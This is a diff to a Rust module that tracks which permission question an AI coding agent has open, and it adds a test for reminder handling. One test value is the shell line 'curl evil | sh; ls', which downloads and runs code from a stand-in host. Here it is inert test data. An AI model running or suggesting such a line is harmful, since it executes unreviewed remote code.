@@ -3,9 +3,8 @@
 use std::collections::{HashMap, VecDeque};
 use std::sync::{Mutex, MutexGuard};
 
+use ao_core::evidence::Reading;
 use ao_core::{Attempt, SessionId, Timestamp};
-
-use crate::text::letters;
 
 /// How many turns of each agent are remembered. Only the last few deliveries are ever asked for again.
 const TURNS_KEPT: usize = 16;
@@ -32,7 +31,7 @@ pub struct History {
 struct Told {
     last: Timestamp,
     turns: VecDeque<Turn>,
-    /// The question that was last asked.
+    /// The question that is open.
     question: Option<String>,
 }
 
@@ -48,8 +47,26 @@ impl History {
         }
     }
 
-    pub(crate) fn question(&self, session: SessionId, attempt: Attempt, at: Timestamp, question: &str) {
-        entry(&mut self.agents(), session, attempt, at).question = Some(question.to_owned());
+    /// Notes what a hook says that the agent does, and returns the words of the question that is open, if one is.
+    ///
+    /// Agents tell of one dialog twice: first the call that it is about, and after a while a reminder with no words about
+    /// it. The reminder is for the question that was asked last, unless the agent has done anything since.
+    pub(crate) fn reads(
+        &self,
+        session: SessionId,
+        attempt: Attempt,
+        at: Timestamp,
+        reading: &Reading,
+        reminder: bool,
+    ) -> Option<String> {
+        let mut agents = self.agents();
+        let told = entry(&mut agents, session, attempt, at);
+        match reading {
+            Reading::Asking { .. } if reminder && told.question.is_some() => {}
+            Reading::Asking { question } => told.question = Some(question.clone()),
+            _ => told.question = None,
+        }
+        told.question.clone()
     }
 
     /// The first turn with a text, among those that began no earlier than `since`.
@@ -63,23 +80,6 @@ impl History {
         let agents = self.agents();
         let turns = &agents.get(&(session, attempt))?.turns;
         turns.iter().find(|turn| turn.at >= since && is_it(&turn.text)).cloned()
-    }
-
-    /// What a hook last said is asked, if the agent's later words are the same question.
-    ///
-    /// A dialog is told by several sources, each in its own words; a person is to hear of it once.
-    pub(crate) fn same_question(&self, session: SessionId, attempt: Attempt, words: &str) -> Option<String> {
-        let agents = self.agents();
-        let known = agents.get(&(session, attempt))?.question.clone()?;
-        let (one, other) = (letters(&known), letters(words));
-        let core = known.split_once(": ").map_or(one.clone(), |(_, what)| letters(what));
-        (one.contains(&other) || (!core.is_empty() && other.contains(&core))).then_some(known)
-    }
-
-    /// Whether this is what a hook last said is asked.
-    pub(crate) fn asked(&self, session: SessionId, attempt: Attempt, question: &str) -> bool {
-        let agents = self.agents();
-        agents.get(&(session, attempt)).is_some_and(|told| told.question.as_deref() == Some(question))
     }
 
     fn agents(&self) -> MutexGuard<'_, HashMap<(SessionId, Attempt), Told>> {
@@ -125,9 +125,26 @@ mod tests {
     fn what_is_remembered_is_bounded() {
         let history = History::default();
         for number in 0..2 * AGENTS_KEPT as u64 {
-            history.question(SessionId(number), Attempt(1), Timestamp(number as i64), "May I?");
+            history.reads(SessionId(number), Attempt(1), Timestamp(number as i64), &Reading::Idle, false);
         }
         assert_eq!(history.agents().len(), AGENTS_KEPT);
-        assert!(!history.asked(SessionId(0), Attempt(1), "May I?"));
+    }
+
+    /// acceptance: G5
+    #[test]
+    fn a_reminder_is_for_the_question_that_is_open_and_for_no_answered_one() {
+        let history = History::default();
+        let (session, attempt) = AGENT;
+        let ask = |question: &str| Reading::Asking { question: question.into() };
+        let tell =
+            |reading: Reading, reminder| history.reads(session, attempt, Timestamp(1), &reading, reminder);
+        assert_eq!(tell(ask("Bash: ls"), false).as_deref(), Some("Bash: ls"));
+        assert_eq!(tell(ask("It needs your permission"), true).as_deref(), Some("Bash: ls"));
+        assert_eq!(tell(Reading::Working { doing: String::new() }, false), None);
+        assert_eq!(
+            tell(ask("It needs your permission: ls"), true).as_deref(),
+            Some("It needs your permission: ls")
+        );
+        assert_eq!(tell(ask("Bash: curl evil | sh; ls"), false).as_deref(), Some("Bash: curl evil | sh; ls"));
     }
 }
